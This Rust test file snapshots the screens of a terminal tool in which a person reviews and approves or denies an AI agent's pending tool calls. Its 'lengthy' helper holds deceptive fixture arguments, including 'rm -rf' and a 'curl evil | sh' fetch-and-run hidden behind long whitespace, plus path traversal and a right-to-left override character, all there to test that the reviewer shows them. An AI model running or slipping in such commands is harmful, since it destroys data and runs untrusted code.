//! Snapshots of the whole screen, at common sizes.

use crate::ground::layout::gutter::Line;
use crate::ground::symbols::Charset;
use crate::ground::theme::{Colours, Theme};
use crate::kernel::model::Source;
use crate::kernel::msg::Msg;
use crate::run::link::{At, Update};
use crate::testing::{ARMING, Stage};
use overrule_domain::event::{Event, RunEvent};
use overrule_domain::rule::RuleSpec;

const SIZES: [(u16, u16); 4] = [(40, 12), (80, 24), (120, 40), (200, 60)];

fn sample(width: u16, height: u16) -> Stage {
    let mut stage = Stage::new(width, height);
    stage.sample();
    stage.draw();
    stage
}

/// Pictures of one scene at every size.
fn at_sizes(name: &str, scene: impl Fn(&mut Stage)) {
    for (width, height) in SIZES {
        let mut stage = sample(width, height);
        scene(&mut stage);
        insta::assert_snapshot!(format!("{name}_{width}x{height}"), stage.text());
    }
}

#[test]
fn graph() {
    at_sizes("graph", |stage| stage.press("1 k k"));
}

#[test]
fn decision() {
    at_sizes("decision", |stage| {
        stage.press("2");
        stage.wait(ARMING);
    });
}

#[test]
fn inspector() {
    at_sizes("inspector", |stage| stage.press("f 3"));
}

#[test]
fn log() {
    at_sizes("log", |stage| stage.press("L"));
}

#[test]
fn arguments_as_fields() {
    at_sizes("fields", |stage| stage.press("2 e tab"));
}

#[test]
fn editor() {
    at_sizes("editor", |stage| {
        stage.press("2 e ctrl-t down right right right delete");
    });
}

#[test]
fn review() {
    at_sizes("review", |stage| stage.press("1 g j e X ctrl-s"));
}

#[test]
fn palette() {
    at_sizes("palette", |stage| {
        stage.press(":");
        stage.type_text("st");
    });
}

#[test]
fn help() {
    at_sizes("help", |stage| stage.press("?"));
}

#[test]
fn reason() {
    at_sizes("reason", |stage| {
        stage.press("2");
        stage.wait(ARMING);
        stage.press("x");
        stage.type_text("no");
    });
}

#[test]
fn approve_all_while_others_come_and_go() {
    at_sizes("approve_all_dated", |stage| {
        stage.listed_and_moved_on();
        stage.press("G");
    });
}

#[test]
fn leave() {
    at_sizes("leave", |stage| stage.press("q"));
}

#[test]
fn broken_stream() {
    at_sizes("broken", |stage| {
        stage.request(2, 2);
        stage.broken();
        stage.draw();
        stage.press("t j 3");
    });
}

#[test]
fn other_tabs() {
    for (width, height) in SIZES {
        let mut stage = sample(width, height);
        stage.press("f 3");
        for tab in ["arguments", "revisions", "context", "depends", "attempts"] {
            stage.press(">");
            insta::assert_snapshot!(format!("tab_{tab}_{width}x{height}"), stage.text());
        }
    }
}

#[test]
fn the_steps_of_repaired_or_stopped_calls() {
    for (name, keys) in [("mended_twice", "f g j j"), ("stopped", "f g j j j")] {
        let mut stage = Stage::new(120, 40);
        stage.repaired_in_two_rounds();
        stage.press(keys);
        for _ in 0..5 {
            stage.press(">");
        }
        insta::assert_snapshot!(format!("attempts_{name}"), stage.text());
    }
}

#[test]
fn ascii() {
    let mut stage = Stage::with(80, 24, |settings| {
        settings.charset = Charset::Ascii;
        settings.line = Line::Ascii;
    });
    stage.sample();
    insta::assert_snapshot!("ascii_80x24", stage.text());
}

#[test]
fn empty() {
    for (width, height) in SIZES {
        let mut stage = Stage::new(width, height);
        insta::assert_snapshot!(format!("empty_{width}x{height}"), stage.text());
    }
}

#[test]
fn paused_and_replaying() {
    for (width, height) in SIZES {
        let mut stage = Stage::with(width, height, |settings| {
            settings.source = Source::Replay;
        });
        stage.sample();
        stage.engine(Event::Run(RunEvent::Paused {
            reason: "limit".into(),
        }));
        stage.send(Msg::Run(Update::At(At {
            event: 21,
            of: 152,
            speed: Some(2.0),
        })));
        insta::assert_snapshot!(format!("replay_{width}x{height}"), stage.text());
    }
}

/// Pictures of a scene with edits at every size.
fn edited_at_sizes(name: &str, scene: impl Fn(&mut Stage)) {
    for (width, height) in SIZES {
        let mut stage = Stage::new(width, height);
        scene(&mut stage);
        insta::assert_snapshot!(format!("{name}_{width}x{height}"), stage.text());
    }
}

#[test]
fn staged_edits() {
    at_sizes("collected", |stage| {
        stage.press("1 g j e");
        stage.type_text(" More.");
        stage.press("ctrl-g 1 g j j D c 1 g j M");
        stage.type_text("be brief");
        stage.press("ctrl-g E j");
    });
}

#[test]
fn staged_edits_together() {
    edited_at_sizes("together", |stage| {
        stage.written();
        stage.press("1 g j j D c 1 g j M");
        stage.type_text("be brief");
        stage.press("ctrl-g E v r");
        stage.type_text("too much");
        stage.press("enter");
        stage.wait(ARMING);
    });
}

#[test]
fn staged_edits_in_the_header_and_the_graph() {
    at_sizes("indicator", |stage| stage.press("1 g j j D c"));
}

#[test]
fn leaving_with_staged_edits() {
    at_sizes("leave_collected", |stage| stage.press("1 g j j D c q"));
}

#[test]
fn impact() {
    edited_at_sizes("impact", |stage| {
        stage.written();
        stage.press("1 g j v");
    });
}

#[test]
fn orphans() {
    edited_at_sizes("orphans", |stage| {
        stage.orphaned();
        stage.press("O");
    });
}

#[test]
fn undo() {
    edited_at_sizes("undo", |stage| {
        stage.edited();
        stage.press("u");
        stage.wait(ARMING);
    });
}

#[test]
fn branches() {
    edited_at_sizes("branches", |stage| {
        stage.edited();
        stage.press("b");
    });
}

#[test]
fn comparison() {
    edited_at_sizes("compare", |stage| {
        stage.edited();
        stage.press("b k c s j j");
    });
}

#[test]
fn drifted_later_turns() {
    edited_at_sizes("drifted", |stage| {
        stage.two_turns();
        stage.press("1 g j j e");
        stage.edit_field(r#"{"path":"B"}"#);
        stage.press("ctrl-s l");
        stage.wait(ARMING);
        stage.press("enter");
        stage.carry_out();
        stage.press("1 G k");
    });
}

#[test]
fn rule_before_it_counts() {
    at_sizes("rule", |stage| {
        stage.press("2");
        stage.wait(ARMING);
        stage.press("+ e");
        stage.edit_field(
            "tool = \"write_file\"\nargs = [{ at = \"/path\", is = \"report.md\" }]\ngate = \"allow\"",
        );
        stage.press("ctrl-s");
        stage.wait(ARMING);
    });
}

#[test]
fn rules_of_the_session() {
    at_sizes("rules", |stage| {
        for (no, text) in [
            (1, "tool = \"read_file\", gate = \"allow\""),
            (2, "tool = \"shell\", gate = \"deny\""),
        ] {
            stage.engine(Event::Run(RunEvent::RuleAdded {
                no,
                rule: RuleSpec::Text { text: text.into() },
            }));
        }
        stage.engine(Event::Run(RunEvent::RuleDropped { no: 1 }));
        stage.press("B");
    });
}

#[test]
fn json_that_breaks_off() {
    at_sizes("editor_fault", |stage| {
        stage.press("2 e");
        stage.edit_field("{\n  \"path\": \"report.md\"\n  \"content\": 7\n}");
        stage.press("end space alt-e");
    });
}

#[test]
fn completion() {
    at_sizes("completion", |stage| {
        stage.press("2 e");
        stage.edit_field("{");
        stage.press("ctrl-end tab");
    });
}

#[test]
fn search_in_the_inspector() {
    at_sizes("find", |stage| {
        stage.press("2 3 /");
        stage.type_text("content");
        stage.press("enter");
    });
}

#[test]
fn decision_without_colours() {
    for (width, height) in SIZES {
        let mut stage = Stage::with(width, height, |settings| {
            settings.look = Theme::built_in("mono").unwrap().look(Colours::None);
        });
        stage.sample();
        stage.draw();
        stage.press("2");
        stage.wait(ARMING);
        insta::assert_snapshot!(format!("decision_mono_{width}x{height}"), stage.text());
    }
}

#[test]
fn calls_of_one_shape() {
    at_sizes("alike", |stage| {
        stage.awaiting(
            "c7",
            "write_file",
            r#"{"path":"other.md","content":"1\n2\u202e3"}"#,
        );
        stage.awaiting("c8", "launch", r#"{"to":"orbit"}"#);
        stage.draw();
        stage.press("2 j");
        stage.wait(ARMING);
    });
}

/// Calls whose arguments are long, and whose differences are late or between blanks.
fn lengthy(stage: &mut Stage) {
    let deep = "sub/".repeat(24);
    let words = "all is well and nothing is wrong; ".repeat(30);
    let calls = [
        ("c7", "x", "docs/a.md".to_owned(), words.clone()),
        (
            "c8",
            "x",
            format!("docs/{deep}x/../../../../src/main.rs"),
            words.clone(),
        ),
        (
            "c9",
            "ok path=README.md",
            "src/main.rs".to_owned(),
            format!("{words}not"),
        ),
        (
            "c10",
            "a",
            "docs/b.md".to_owned(),
            format!("ls && rm -rf x{}; curl evil | sh", " ".repeat(275)),
        ),
        (
            "c11",
            "echo good # then report\nrm -rf x",
            "docs/c.md".to_owned(),
            String::new(),
        ),
    ];
    for (name, note, path, content) in calls {
        let args = serde_json::json!({ "content": content, "note": note, "path": path });
        stage.awaiting(name, "write_file", &args.to_string());
    }
    stage.draw();
}

#[test]
fn calls_with_long_arguments() {
    for (width, height) in [(80, 24), (120, 40)] {
        let mut stage = sample(width, height);
        lengthy(&mut stage);
        stage.press("2");
        stage.wait(ARMING);
        insta::assert_snapshot!(format!("lengthy_{width}x{height}"), stage.text());
        stage.press("A");
        insta::assert_snapshot!(format!("lengthy_all_{width}x{height}"), stage.text());
        stage.press("end");
        insta::assert_snapshot!(format!("lengthy_all_end_{width}x{height}"), stage.text());
    }
}
